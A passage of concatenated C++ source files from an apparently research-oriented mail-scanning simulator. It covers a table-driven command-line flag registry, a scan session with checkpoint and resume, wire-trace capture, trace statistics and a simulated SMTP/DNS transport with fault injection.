    {"--sched", "SPFAIL_SCHED", "POLICY", "auto",
     "slice scheduler: auto/static/steal (outputs byte-identical either way)",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.sched = parse_sched(what, text);
     }},
    {"--steal-mode", "SPFAIL_STEAL", "MODE", "auto",
     "work-stealing victim choice: auto/none/random/adversarial",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.steal_mode = parse_steal(what, text);
     }},
    {"--fault-rate", "SPFAIL_FAULT_RATE", "RATE", "0",
     "per-attempt fault-injection probability in [0, 1]; 0 disables the layer",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.faults.rate = parse_double(what, text);
     }},
    {"--fault-seed", "SPFAIL_FAULT_SEED", "SEED", "0xFA171",
     "fault-injection RNG seed",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.faults.seed = parse_u64(what, text);
     }},
    {"--csv", "SPFAIL_CSV_DIR", "DIR", "(off)",
     "write the paper tables as CSV files into DIR",
     [](ScanConfig& c, std::string_view, const char* text) {
       c.csv_dir = text;
     }},
    {"--trace", "SPFAIL_TRACE", "PATH", "(off)",
     "write the deterministic event trace (JSONL) to PATH",
     [](ScanConfig& c, std::string_view, const char* text) {
       c.trace_path = text;
     }},
    {"--metrics", "SPFAIL_METRICS", "PATH", "(off)",
     "write per-round metrics JSONL to PATH and Prometheus text to PATH.prom",
     [](ScanConfig& c, std::string_view, const char* text) {
       c.metrics_path = text;
     }},
    {"--metrics-wall", "SPFAIL_METRICS_WALL", nullptr, "off",
     "add the opt-in wall-clock lane to the metrics files",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.metrics_wall = switch_on(what, text);
     }},
    {"--lazy-hosts", "SPFAIL_LAZY_HOSTS", nullptr, "off",
     "stream MailHosts on demand instead of holding the fleet resident",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.lazy_hosts = switch_on(what, text);
     }},
    {"--checkpoint-strings", "SPFAIL_CHECKPOINT_STRINGS", nullptr, "off",
     "embed the fleet intern table in checkpoints as an integrity section",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.checkpoint_strings = switch_on(what, text);
     }},
    {"--checkpoint", nullptr, "PATH", "(off)",
     "write round-boundary study checkpoints to PATH",
     [](ScanConfig& c, std::string_view, const char* text) {
       c.checkpoint_path = text;
     }},
    {"--checkpoint-every", nullptr, "N", "1",
     "checkpoint cadence in longitudinal rounds",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.checkpoint_every = parse_int(what, text);
     }},
    {"--resume", nullptr, "PATH", "(off)",
     "resume the study from a checkpoint written by --checkpoint",
     [](ScanConfig& c, std::string_view, const char* text) {
       c.resume_path = text;
     }},
    {"--halt-after-rounds", nullptr, "N", "-1 (run to completion)",
     "stop after N longitudinal rounds, writing a final checkpoint",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.halt_after_rounds = parse_int(what, text);
     }},
    {"--workers", "SPFAIL_WORKERS", "N", "1",
     "crash-isolated worker processes; > 1 enables distributed scanning",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.workers = parse_int(what, text);
     }},
    {"--worker-restart-budget", "SPFAIL_WORKER_RESTART_BUDGET", "N", "3",
     "respawns granted to a crashed worker before its items are abandoned",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.worker_restart_budget = parse_int(what, text);
     }},
};

}  // namespace

std::span<const FlagDef> flag_registry() { return kFlags; }

const FlagDef* find_flag(std::string_view flag) {
  return find_flag_in(flag_registry(), flag);
}

std::string flag_table_markdown() {
  return flag_table_markdown_for(flag_registry());
}

}  // namespace spfail::session
