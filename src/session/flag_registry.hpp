// The table-driven flag registry behind ScanConfig (DESIGN.md §11).
//
// Every knob used to be spelled four times: a --flag branch in from_args, an
// SPFAIL_* branch in apply_env, a doc line in the README table, and the
// field default — and the four drifted. A FlagDef row carries all of it
// (CLI name, env var, value placeholder, default, doc line, apply
// function), so from_args/apply_env loop the table and the README flag
// table is *generated* from it (`spfail_scan --flag-table`). Adding a flag
// is adding one row.
#pragma once

#include <span>
#include <string>
#include <string_view>

#include "session/scan_config.hpp"

namespace spfail::session {

struct FlagDef {
  const char* flag;        // "--scale"
  const char* env;         // "SPFAIL_SCALE"; nullptr = CLI-only
  const char* value_name;  // "RATE"; nullptr = boolean switch (no value)
  const char* default_doc; // rendered in the flag table's Default column
  const char* doc;         // one-line description
  // Apply one occurrence. `what` names the source for error messages (the
  // flag or the env var). `text` is the value — nullptr for a switch given
  // on the command line (switches from the environment carry 0/1 text).
  // Throws ScanConfigError on malformed input.
  void (*apply)(ScanConfig& config, std::string_view what, const char* text);
};

// Every ScanConfig flag, in the order the generated table lists them.
std::span<const FlagDef> flag_registry();

// Registry lookup by CLI name; nullptr when unknown.
const FlagDef* find_flag(std::string_view flag);

// The README flag table (GitHub-flavoured markdown), generated from the
// registry so docs cannot drift from the parser.
std::string flag_table_markdown();

}  // namespace spfail::session
