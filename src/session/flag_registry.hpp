// The table-driven flag registry behind ScanConfig (DESIGN.md §11) and
// every other table-driven flag surface (the svc service config, §18).
//
// Every knob used to be spelled four times: a --flag branch in from_args, an
// SPFAIL_* branch in apply_env, a doc line in the README table, and the
// field default — and the four drifted. A FlagRow carries all of it (CLI
// name, env var, value placeholder, default, doc line, apply function), so
// from_args/apply_env loop the table and the README flag table is
// *generated* from it (`spfail_scan --flag-table`). Adding a flag is adding
// one row. The row type and the three walkers are templated on the config
// struct so a second binary (spfail_svc) gets the same parse/env/doc
// discipline from its own table instead of a hand-rolled copy.
#pragma once

#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "session/scan_config.hpp"

namespace spfail::session {

template <typename Config>
struct FlagRow {
  const char* flag;        // "--scale"
  const char* env;         // "SPFAIL_SCALE"; nullptr = CLI-only
  const char* value_name;  // "RATE"; nullptr = boolean switch (no value)
  const char* default_doc; // rendered in the flag table's Default column
  const char* doc;         // one-line description
  // Apply one occurrence. `what` names the source for error messages (the
  // flag or the env var). `text` is the value — nullptr for a switch given
  // on the command line (switches from the environment carry 0/1 text).
  // Throws ScanConfigError on malformed input.
  void (*apply)(Config& config, std::string_view what, const char* text);
};

using FlagDef = FlagRow<ScanConfig>;

// Registry lookup by CLI name; nullptr when unknown.
template <typename Config>
const FlagRow<Config>* find_flag_in(std::span<const FlagRow<Config>> rows,
                                    std::string_view flag) {
  for (const FlagRow<Config>& row : rows) {
    if (flag == row.flag) return &row;
  }
  return nullptr;
}

// Environment layer: apply every row whose env var is set.
template <typename Config>
void apply_env_rows(std::span<const FlagRow<Config>> rows, Config& config) {
  for (const FlagRow<Config>& row : rows) {
    if (row.env == nullptr) continue;
    if (const char* env = std::getenv(row.env)) {
      row.apply(config, row.env, env);
    }
  }
}

// Command-line layer over `config`, starting at argv[1]. Throws
// ScanConfigError for unknown flags, missing values, and duplicate
// occurrences of the same flag (last-one-wins would silently mask an
// operator's typo in a long command line, so a repeat is an error).
template <typename Config>
void apply_arg_rows(std::span<const FlagRow<Config>> rows, int argc,
                    const char* const* argv, Config& config) {
  std::vector<const FlagRow<Config>*> seen;
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    const FlagRow<Config>* row = find_flag_in(rows, arg);
    if (row == nullptr) {
      throw ScanConfigError("unknown option " + std::string(arg));
    }
    for (const FlagRow<Config>* earlier : seen) {
      if (earlier == row) {
        throw ScanConfigError("duplicate flag " + std::string(arg) +
                              " (each flag may be given at most once)");
      }
    }
    seen.push_back(row);
    const char* text = nullptr;
    if (row->value_name != nullptr) {
      if (i + 1 >= argc) {
        throw ScanConfigError("missing value for " + std::string(arg));
      }
      text = argv[++i];
    }
    row->apply(config, arg, text);
  }
}

// The README flag table (GitHub-flavoured markdown), generated from a
// registry so docs cannot drift from the parser.
template <typename Config>
std::string flag_table_markdown_for(std::span<const FlagRow<Config>> rows) {
  std::string out =
      "| Flag | Environment | Default | Description |\n"
      "| --- | --- | --- | --- |\n";
  for (const FlagRow<Config>& row : rows) {
    out += "| `";
    out += row.flag;
    if (row.value_name != nullptr) {
      out += ' ';
      out += row.value_name;
    }
    out += "` | ";
    if (row.env != nullptr) {
      out += '`';
      out += row.env;
      out += '`';
    } else {
      out += "—";
    }
    out += " | ";
    out += row.default_doc;
    out += " | ";
    out += row.doc;
    out += " |\n";
  }
  return out;
}

// Every ScanConfig flag, in the order the generated table lists them.
std::span<const FlagDef> flag_registry();

// Registry lookup by CLI name; nullptr when unknown.
const FlagDef* find_flag(std::string_view flag);

// The README flag table for the ScanConfig registry.
std::string flag_table_markdown();

}  // namespace spfail::session
