// The single owner of a scan run's lifetime (DESIGN.md §11).
//
// ScanSession fronts the whole apparatus behind one object: it builds the
// Fleet, owns the WireTrace when tracing is on, runs the initial campaign or
// the longitudinal study, and drives the checkpoint/resume/halt protocol
// from one ScanConfig. Callers (spfail_scan, the examples, ReproSession and
// with it every bench) no longer assemble CampaignConfig/StudyConfig by
// hand, so every entry point agrees on seeds, fault plans, and trace wiring
// — the precondition for a snapshot taken by one binary resuming in another.
//
// Checkpoint protocol: with `checkpoint_path` set, the study state is
// serialised atomically at every `checkpoint_every`-th round boundary (and
// at a --halt-after-rounds stop). With `resume_path` set, the session
// restores that snapshot instead of re-running the completed prefix; the
// resumed run's reports, traces, and degradation tables are byte-identical
// to an uninterrupted run at any thread count. Status lines about
// checkpointing go to stderr so stdout stays byte-comparable across
// interrupted and uninterrupted runs.
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "dist/coordinator.hpp"
#include "longitudinal/study.hpp"
#include "net/wire_trace.hpp"
#include "obs/metrics.hpp"
#include "population/fleet.hpp"
#include "scan/campaign.hpp"
#include "scenario/runner.hpp"
#include "scenario/scenario.hpp"
#include "session/scan_config.hpp"

namespace spfail::session {

class ScanSession {
 public:
  explicit ScanSession(ScanConfig config);

  const ScanConfig& config() const noexcept { return config_; }

  // Lazily built fleet (scale/seed from the config). When --scenario names
  // specs, the fleet builds with their merged PolicyMix (resolve_mix), so
  // the scanned population reflects the staging.
  population::Fleet& fleet();

  // The parsed --scenario specs (empty without --scenario).
  const std::vector<scenario::ScenarioSpec>& scenarios();

  // One measured outcome table per configured spec (cached). The runner
  // drives its flows over a dedicated fleet built fresh from the same
  // scale/seed/mix — a pure function of the config, so the reports are
  // bit-identical across thread counts, schedulers, worker counts, and
  // halt/resume, and independent of whatever host state the scan built up.
  // Baseline specs (and a mix that stages nothing) yield all-zero reports
  // without building the extra fleet.
  const std::vector<scenario::ScenarioReport>& scenario_reports();

  // The session-owned wire trace; nullptr when tracing is off.
  net::WireTrace* trace() noexcept {
    return config_.tracing() ? &trace_ : nullptr;
  }

  // The session-owned master metrics registry (DESIGN.md §12); nullptr when
  // metrics are off. Shard lanes merge into it in shard-index order, so its
  // contents are bit-identical at any thread count.
  obs::Registry* metrics() noexcept {
    return config_.metrics() ? &metrics_ : nullptr;
  }

  // Rendered per-phase JSONL snapshot lines ("initial", one per longitudinal
  // round, "final"), accumulated as the run progresses. Rides in checkpoints
  // so a resumed run re-emits the same stream.
  const std::vector<std::string>& metric_lines() const noexcept {
    return metric_lines_;
  }

  // Write the metric outputs: the JSONL round snapshots to
  // config().metrics_path and the Prometheus text exposition to
  // metrics_path + ".prom". No-op when metrics are off.
  void write_metrics_files();

  // The 2021-10-11 initial measurement (cached). Honours resume: a
  // Campaign-kind snapshot short-circuits the scan entirely. Writes a
  // Campaign-kind checkpoint when configured and the campaign actually ran.
  const scan::CampaignReport& initial();

  // The full longitudinal study (cached; runs the initial campaign
  // internally — do not mix with initial() on one session). Returns nullptr
  // when the run halted at a checkpoint (--halt-after-rounds) instead of
  // completing; halted() reports the same.
  const longitudinal::StudyReport* study();

  // True when study() stopped at --halt-after-rounds after writing the
  // checkpoint instead of finishing.
  bool halted() const noexcept { return halted_; }

  // True when the run stopped because a termination signal (SIGINT/SIGTERM)
  // was caught: the session checkpointed at the next round boundary and
  // exited cleanly instead of finishing. Implies halted().
  bool interrupted() const noexcept { return interrupted_; }

  // The distributed-scan coordinator (DESIGN.md §15); built lazily, nullptr
  // when config().workers <= 1. After a run, its report() carries the
  // restart/abandonment accounting.
  dist::Coordinator* coordinator();

  // A short banner describing the session (scale, seed, population sizes).
  std::string banner();

 private:
  longitudinal::StudyConfig study_config();
  // Refuses a resume whose embedded intern table (when present) differs from
  // the rebuilt fleet's — a whole-population fingerprint check (§14).
  void check_snapshot_strings(const snapshot::StudySnapshot& snap);
  // Refuses a resume whose worker-shard layout differs from --workers: host
  // residues live in per-worker checkpoints keyed by the ownership
  // partition, so changing the worker count mid-run would silently reshard.
  void check_snapshot_workers(const snapshot::StudySnapshot& snap);
  // Removes an orphaned checkpoint .tmp a killed writer left behind.
  void discard_orphan_checkpoint();
  void write_checkpoint(const longitudinal::Study& study,
                        const longitudinal::Study::State& state);
  void record_metric_line(std::string_view phase, int round = -1);

  ScanConfig config_;
  std::optional<std::vector<scenario::ScenarioSpec>> scenarios_;
  std::optional<std::vector<scenario::ScenarioReport>> scenario_reports_;
  net::WireTrace trace_;
  obs::Registry metrics_;
  std::vector<std::string> metric_lines_;
  std::unique_ptr<population::Fleet> fleet_;
  std::unique_ptr<dist::Coordinator> coordinator_;
  std::optional<scan::CampaignReport> initial_;
  std::optional<longitudinal::StudyReport> study_report_;
  bool study_ran_ = false;
  bool halted_ = false;
  bool interrupted_ = false;
};

}  // namespace spfail::session
