// Summary statistics over a WireTrace — the numbers behind the
// `spfail_scan --trace` summary table (rendered by report::trace_summary).
//
// Tallying runs through an obs::Registry behind an inner MetricsLane (the
// nesting case that lane discipline exists for), so the trace summary and
// the live metric stream share one counting implementation. On top of the
// frame counts this derives per-protocol hop latency: within each work lane,
// every frame observes the simulated-time gap to the lane's previous frame
// into a fixed-bucket histogram under its protocol (so p50/p95/max are
// thread-count-invariant).
#pragma once

#include <cstddef>
#include <map>
#include <string>

#include "net/wire_trace.hpp"
#include "obs/metrics.hpp"

namespace spfail::net {

struct TraceStats {
  std::size_t frames = 0;
  std::size_t smtp_commands = 0;
  std::size_t smtp_replies = 0;
  std::size_t dns_queries = 0;
  std::size_t dns_responses = 0;
  std::size_t injected = 0;  // fault-synthesised frames
  std::size_t lanes = 0;     // distinct work-lane ids
  std::size_t endpoints = 0; // distinct endpoint labels (src or dst)

  // Per-verb SMTP command counts (payload lines, which carry no verb, are
  // counted in smtp_commands only) and per-rcode DNS response counts.
  std::map<std::string, std::size_t> smtp_verbs;
  std::map<std::string, std::size_t> dns_rcodes;

  // Simulated inter-frame (hop) latency per protocol, measured within each
  // work lane. Lane-relative frame times make the distributions identical
  // at any thread count.
  obs::Histogram smtp_hop_latency;
  obs::Histogram dns_hop_latency;

  static TraceStats from(const WireTrace& trace);
};

}  // namespace spfail::net
