// Summary statistics over a WireTrace — the numbers behind the
// `spfail_scan --trace` summary table (rendered by report::trace_summary).
#pragma once

#include <cstddef>
#include <map>
#include <string>

#include "net/wire_trace.hpp"

namespace spfail::net {

struct TraceStats {
  std::size_t frames = 0;
  std::size_t smtp_commands = 0;
  std::size_t smtp_replies = 0;
  std::size_t dns_queries = 0;
  std::size_t dns_responses = 0;
  std::size_t injected = 0;  // fault-synthesised frames
  std::size_t lanes = 0;     // distinct work-lane ids
  std::size_t endpoints = 0; // distinct endpoint labels (src or dst)

  // Per-verb SMTP command counts (payload lines, which carry no verb, are
  // counted in smtp_commands only) and per-rcode DNS response counts.
  std::map<std::string, std::size_t> smtp_verbs;
  std::map<std::string, std::size_t> dns_rcodes;

  static TraceStats from(const WireTrace& trace);
};

}  // namespace spfail::net
