#include "net/wire_trace.hpp"

#include <stdexcept>

namespace spfail::net {

thread_local WireTrace::Lane::LaneState WireTrace::Lane::lane_;

void WireTrace::splice(WireTrace&& other) {
  if (frames_.empty()) {
    frames_ = std::move(other.frames_);
  } else {
    frames_.insert(frames_.end(),
                   std::make_move_iterator(other.frames_.begin()),
                   std::make_move_iterator(other.frames_.end()));
  }
  other.frames_.clear();
}

void WireTrace::write_jsonl(std::ostream& out) const {
  for (const Frame& frame : frames_) {
    out << to_json(frame) << '\n';
  }
}

WireTrace::Lane::Lane(WireTrace& sink, std::uint64_t lane_id,
                      const util::SimClock& clock) {
  if (lane_.sink != nullptr) {
    throw std::logic_error(
        "WireTrace::Lane: a lane is already active on this thread");
  }
  lane_.sink = &sink;
  lane_.id = lane_id;
  lane_.anchor = clock.now();
}

WireTrace::Lane::~Lane() { lane_ = LaneState{}; }

void WireTrace::Lane::record(Frame&& frame, util::SimTime now) {
  if (lane_.sink == nullptr) return;
  frame.time = now - lane_.anchor;
  frame.lane = lane_.id;
  lane_.sink->record(std::move(frame));
}

}  // namespace spfail::net
