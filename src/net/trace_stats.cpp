#include "net/trace_stats.hpp"

#include <set>
#include <unordered_map>
#include <unordered_set>
#include <utility>

#include "obs/lane.hpp"

namespace spfail::net {

namespace {

// Rendered cell keys look like verb="MAIL" — recover the value between the
// quotes. The renderer writes exactly one label for these families.
std::string label_value(const std::string& key) {
  const auto open = key.find('"');
  const auto close = key.rfind('"');
  if (open == std::string::npos || close <= open) return key;
  return key.substr(open + 1, close - open - 1);
}

std::size_t counter_total(const obs::Registry& registry,
                          std::string_view name) {
  const obs::Family* family = registry.find(name);
  if (family == nullptr) return 0;
  std::size_t total = 0;
  for (const auto& [labels, cell] : family->cells) total += cell.counter;
  return total;
}

void counter_by_label(const obs::Registry& registry, std::string_view name,
                      std::map<std::string, std::size_t>& out) {
  const obs::Family* family = registry.find(name);
  if (family == nullptr) return;
  for (const auto& [labels, cell] : family->cells) {
    out[label_value(labels)] = cell.counter;
  }
}

}  // namespace

TraceStats TraceStats::from(const WireTrace& trace) {
  obs::Registry registry;
  std::unordered_set<std::uint64_t> lanes;
  std::set<std::string> endpoints;
  // Per work lane: the time of the previous frame. Each subsequent frame
  // observes its gap to the predecessor under its own protocol — the per-hop
  // sim-latency (frame costs, DNS resolution stalls, injected latency
  // spikes all widen it; lane-relative times keep it sharding-invariant).
  std::unordered_map<std::uint64_t, util::SimTime> last_time;
  {
    const obs::MetricsLane tally(registry);
    for (const Frame& frame : trace.frames()) {
      lanes.insert(frame.lane);
      endpoints.insert(frame.src);
      endpoints.insert(frame.dst);
      obs::count("trace_frames_total", {{"kind", to_string(frame.kind)}});
      if (frame.injected) obs::count("trace_injected_total");
      const bool smtp = frame.kind == FrameKind::SmtpCommand ||
                        frame.kind == FrameKind::SmtpReply;
      if (const auto it = last_time.find(frame.lane); it != last_time.end()) {
        obs::observe("trace_hop_sim_latency", frame.time - it->second,
                     {{"proto", smtp ? "smtp" : "dns"}});
      }
      last_time[frame.lane] = frame.time;
      if (frame.kind == FrameKind::SmtpCommand && !frame.verb.empty()) {
        obs::count("trace_smtp_verbs_total", {{"verb", frame.verb}});
      }
      if (frame.kind == FrameKind::DnsResponse) {
        obs::count("trace_dns_rcodes_total", {{"rcode", frame.rcode}});
      }
    }
  }

  TraceStats stats;
  const auto kind_count = [&](FrameKind kind) -> std::size_t {
    const obs::Family* family = registry.find("trace_frames_total");
    if (family == nullptr) return 0;
    const auto it =
        family->cells.find(obs::render_labels({{"kind", to_string(kind)}}));
    return it == family->cells.end() ? 0 : it->second.counter;
  };
  stats.smtp_commands = kind_count(FrameKind::SmtpCommand);
  stats.smtp_replies = kind_count(FrameKind::SmtpReply);
  stats.dns_queries = kind_count(FrameKind::DnsQuery);
  stats.dns_responses = kind_count(FrameKind::DnsResponse);
  stats.frames = counter_total(registry, "trace_frames_total");
  stats.injected = counter_total(registry, "trace_injected_total");
  stats.lanes = lanes.size();
  stats.endpoints = endpoints.size();
  counter_by_label(registry, "trace_smtp_verbs_total", stats.smtp_verbs);
  counter_by_label(registry, "trace_dns_rcodes_total", stats.dns_rcodes);
  stats.smtp_hop_latency =
      registry.histogram("trace_hop_sim_latency", {{"proto", "smtp"}});
  stats.dns_hop_latency =
      registry.histogram("trace_hop_sim_latency", {{"proto", "dns"}});
  return stats;
}

}  // namespace spfail::net
