#include "net/trace_stats.hpp"

#include <set>
#include <unordered_set>

namespace spfail::net {

TraceStats TraceStats::from(const WireTrace& trace) {
  TraceStats stats;
  std::unordered_set<std::uint64_t> lanes;
  std::set<std::string> endpoints;
  for (const Frame& frame : trace.frames()) {
    ++stats.frames;
    lanes.insert(frame.lane);
    endpoints.insert(frame.src);
    endpoints.insert(frame.dst);
    if (frame.injected) ++stats.injected;
    switch (frame.kind) {
      case FrameKind::SmtpCommand:
        ++stats.smtp_commands;
        if (!frame.verb.empty()) ++stats.smtp_verbs[frame.verb];
        break;
      case FrameKind::SmtpReply:
        ++stats.smtp_replies;
        break;
      case FrameKind::DnsQuery:
        ++stats.dns_queries;
        break;
      case FrameKind::DnsResponse:
        ++stats.dns_responses;
        ++stats.dns_rcodes[frame.rcode];
        break;
    }
  }
  stats.lanes = lanes.size();
  stats.endpoints = endpoints.size();
  return stats;
}

}  // namespace spfail::net
