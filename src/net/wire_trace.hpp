// Structured per-shard wire capture (DESIGN.md §10).
//
// A WireTrace is an append-only list of Frames. Sharded scans give every
// worker its own per-wave trace and splice them back in master (address)
// order at merge time — the same lane discipline as dns::QueryLog and
// util::SimClock, so a trace is bit-identical at any thread count.
//
// Recording is routed through a thread-local Lane, mirroring
// AuthoritativeServer::LogLane: while a Lane is active on a thread, every
// transport on that thread records into the lane's sink with the lane's
// deterministic id and anchor-relative timestamps. With no lane active,
// frames are dropped — tracing off costs nothing on the hot path.
#pragma once

#include <cstdint>
#include <ostream>
#include <vector>

#include "net/frame.hpp"
#include "util/clock.hpp"

namespace spfail::net {

class WireTrace {
 public:
  void record(Frame frame) { frames_.push_back(std::move(frame)); }

  const std::vector<Frame>& frames() const noexcept { return frames_; }
  // Move the recorded frames out, leaving the trace empty.
  std::vector<Frame> release() { return std::move(frames_); }
  std::size_t size() const noexcept { return frames_.size(); }
  bool empty() const noexcept { return frames_.empty(); }
  void clear() { frames_.clear(); }

  // Append `other`'s frames and leave it empty (merge-time reassembly).
  void splice(WireTrace&& other);

  // One JSON object per line, in recorded order.
  void write_jsonl(std::ostream& out) const;

  // RAII redirect of this thread's frame recording into `sink`. At most one
  // per thread. `lane_id` is the deterministic work-lane id stamped on every
  // frame (the test's master-order label slot — never the worker shard
  // index); `clock` supplies the anchor that frame times are taken relative
  // to, captured at construction.
  class Lane {
   public:
    Lane(WireTrace& sink, std::uint64_t lane_id, const util::SimClock& clock);
    ~Lane();
    Lane(const Lane&) = delete;
    Lane& operator=(const Lane&) = delete;

    // True while any lane is active on the calling thread.
    static bool active() noexcept { return lane_.sink != nullptr; }

    // Record into the calling thread's active lane (no-op without one):
    // stamps the lane id and the anchor-relative time onto `frame`.
    static void record(Frame&& frame, util::SimTime now);

   private:
    struct LaneState {
      WireTrace* sink = nullptr;
      std::uint64_t id = 0;
      util::SimTime anchor = 0;
    };
    static thread_local LaneState lane_;
  };

 private:
  std::vector<Frame> frames_;
};

}  // namespace spfail::net
