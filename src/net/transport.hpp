// The unified simulated-network transport (DESIGN.md §10).
//
// Everything that crosses the simulated wire goes through a Transport:
// SMTP dialogs as SmtpChannels, DNS lookups as exchange() calls. The
// transport owns the three concerns that used to be scattered per call site:
//
//   * time — every frame charges a configurable cost to the simulation
//     clock (the scanner's "each SMTP exchange costs a little simulated
//     time" rule lives here, in one place);
//   * faults — tempfails, connection drops and latency spikes preempt an
//     SmtpChannel at the configured stage, and DNS fault decisions
//     (SERVFAIL / timeout / lame delegation) are drawn and applied behind
//     exchange_with_faults(), replacing the old FaultInjectingService
//     decorator and the inline fault branches in scan::Prober;
//   * capture — every frame is offered to the thread's WireTrace::Lane
//     (and an optional per-channel mirror, which is how smtp::Client
//     transcripts are recorded).
//
// A Transport holding a const clock (resolvers) can carry zero-cost frames
// only; charging a positive cost without a mutable clock is a logic error.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <utility>

#include "dns/server.hpp"
#include "faults/fault.hpp"
#include "net/wire_trace.hpp"
#include "smtp/server.hpp"
#include "util/clock.hpp"

namespace spfail::net {

struct TransportConfig {
  // Simulated seconds charged per SMTP dialog frame exchanged (command plus
  // its reply — one network round trip). The scanner's historical rule.
  util::SimTime smtp_frame_cost = 1;
  // Simulated seconds charged per DNS exchange. 0 keeps resolver paths
  // time-neutral, as they always were.
  util::SimTime dns_frame_cost = 0;
  // Optional fault plan consulted by next_dns_fault(); may also be attached
  // later via set_fault_plan(). Not owned.
  const faults::FaultPlan* fault_plan = nullptr;
};

class Transport;

// One SMTP dialog over a transport. Wraps a ServerSession: greeting() and
// send() charge the per-frame cost, record wire frames, and apply the fault
// decision the channel was opened with — an injected tempfail or drop fires
// once, at its configured stage, and the command never reaches the MTA.
class SmtpChannel {
 public:
  SmtpChannel(Transport& transport, smtp::ServerSession& session,
              Endpoint client, Endpoint server, faults::FaultDecision fault);

  // The server's opening banner. A Helo-stage fault fires here (the
  // connection dies before the banner arrives).
  smtp::Reply greeting();

  // Send one dialog line and return the server's reply (Reply{0} mid-DATA).
  smtp::Reply send(const std::string& line);

  bool closed() const noexcept { return session_.closed(); }

  // True once the channel's fault dropped the connection mid-dialog.
  bool dropped() const noexcept { return dropped_; }
  // True once the channel's fault synthesised a tempfail reply. Sticky —
  // callers are expected to abandon the dialog on the exchange that set it.
  bool last_injected() const noexcept { return last_injected_; }

  // Mirror every frame (with absolute timestamps) into `trace` regardless of
  // any thread lane — the transcript hook for smtp::Client. Pass nullptr to
  // detach.
  void set_mirror(WireTrace* mirror) noexcept { mirror_ = mirror; }

 private:
  bool tracing() const noexcept;
  void emit(Frame&& frame);
  void emit_command(const std::string& verb, const std::string& line);
  void emit_reply(const smtp::Reply& reply, bool injected);
  smtp::Reply inject();

  Transport& transport_;
  smtp::ServerSession& session_;
  Endpoint client_;
  Endpoint server_;
  faults::FaultDecision fault_;
  bool armed_;  // the fault has not fired yet
  bool dropped_ = false;
  bool last_injected_ = false;
  WireTrace* mirror_ = nullptr;
};

class Transport {
 public:
  // Clockless transport: frames are free and untimed (in-memory dialogs,
  // e.g. smtp::Client transcripts) — both frame costs are forced to 0.
  Transport() { config_.smtp_frame_cost = 0; }

  // Full transport over the simulation clock: frames advance time.
  explicit Transport(util::SimClock& clock, TransportConfig config = {})
      : clock_(&clock), ro_clock_(&clock), config_(config),
        plan_(config.fault_plan) {}

  // Read-only-clock transport (resolver paths): frames are timestamped but
  // cannot advance time; a positive frame cost throws.
  explicit Transport(const util::SimClock& clock, TransportConfig config = {})
      : ro_clock_(&clock), config_(config), plan_(config.fault_plan) {}

  const TransportConfig& config() const noexcept { return config_; }
  util::SimTime now() const noexcept {
    return ro_clock_ != nullptr ? ro_clock_->now() : 0;
  }

  // Attach (or detach, with nullptr) the fault plan consulted by
  // next_dns_fault(). Attempt counters persist across re-attachment.
  void set_fault_plan(const faults::FaultPlan* plan) noexcept { plan_ = plan; }
  const faults::FaultPlan* fault_plan() const noexcept { return plan_; }

  // Open an SMTP dialog carrying `fault` (a LatencySpike stretches the
  // dialog right here, at connection setup; tempfails/drops arm the channel).
  SmtpChannel open(smtp::ServerSession& session, Endpoint client,
                   Endpoint server, const faults::FaultDecision& fault = {});

  // One DNS round trip: the query is wire-encoded, decoded and handed to
  // `service` (the substrate sees real messages), and both directions are
  // traced. A DNS-kind `fault` eats the query on the wire: the service is
  // never reached and a SERVFAIL is synthesised (and counted in injected()).
  dns::Message exchange(dns::DnsService& service, const dns::Message& query,
                        const Endpoint& src, const Endpoint& dst,
                        const util::IpAddress& client,
                        const faults::FaultDecision& fault = {});

  // Draw the next fault decision for (qname, qtype) from the attached plan,
  // advancing the per-key attempt counter. Inert (and counter-neutral) when
  // no enabled plan is attached.
  faults::FaultDecision next_dns_fault(const dns::Name& qname,
                                       dns::RRType qtype);

  // exchange() with next_dns_fault() applied — the drop-in replacement for
  // the old FaultInjectingService decorator.
  dns::Message exchange_with_faults(dns::DnsService& service,
                                    const dns::Message& query,
                                    const Endpoint& src, const Endpoint& dst,
                                    const util::IpAddress& client);

  // DNS faults this transport has injected.
  std::size_t injected() const noexcept { return injected_; }

  // Advance the clock by `cost` simulated seconds (no-op for cost <= 0;
  // logic_error without a mutable clock).
  void charge(util::SimTime cost);
  void charge_smtp() { charge(config_.smtp_frame_cost); }

 private:
  util::SimClock* clock_ = nullptr;
  const util::SimClock* ro_clock_ = nullptr;
  TransportConfig config_;
  const faults::FaultPlan* plan_ = nullptr;
  std::size_t injected_ = 0;
  std::map<std::pair<dns::Name, dns::RRType>, std::uint64_t> attempt_counters_;
};

}  // namespace spfail::net
