#include "net/frame.hpp"

#include <cstdio>

namespace spfail::net {

std::string to_string(Direction direction) {
  return direction == Direction::ClientToServer ? "c2s" : "s2c";
}

std::string to_string(FrameKind kind) {
  switch (kind) {
    case FrameKind::SmtpCommand:
      return "smtp-cmd";
    case FrameKind::SmtpReply:
      return "smtp-reply";
    case FrameKind::DnsQuery:
      return "dns-query";
    case FrameKind::DnsResponse:
      return "dns-reply";
  }
  return "?";
}

std::string json_escape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (const char c : text) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\r':
        out += "\\r";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

std::string to_json(const Frame& frame) {
  std::string out = "{\"t\":" + std::to_string(frame.time) +
                    ",\"lane\":" + std::to_string(frame.lane) + ",\"src\":\"" +
